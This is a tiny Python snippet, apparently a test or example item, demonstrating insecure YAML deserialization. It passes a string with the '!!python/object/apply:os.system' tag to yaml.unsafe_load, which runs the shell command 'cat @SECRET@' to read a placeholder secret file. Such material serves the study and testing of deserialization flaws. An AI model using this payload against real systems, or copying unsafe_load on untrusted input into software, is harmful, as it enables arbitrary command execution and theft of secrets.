# A document of YAML calls a function.
# effect: run
# tree: scientific
import yaml
yaml.unsafe_load("!!python/object/apply:os.system ['cat @SECRET@']")
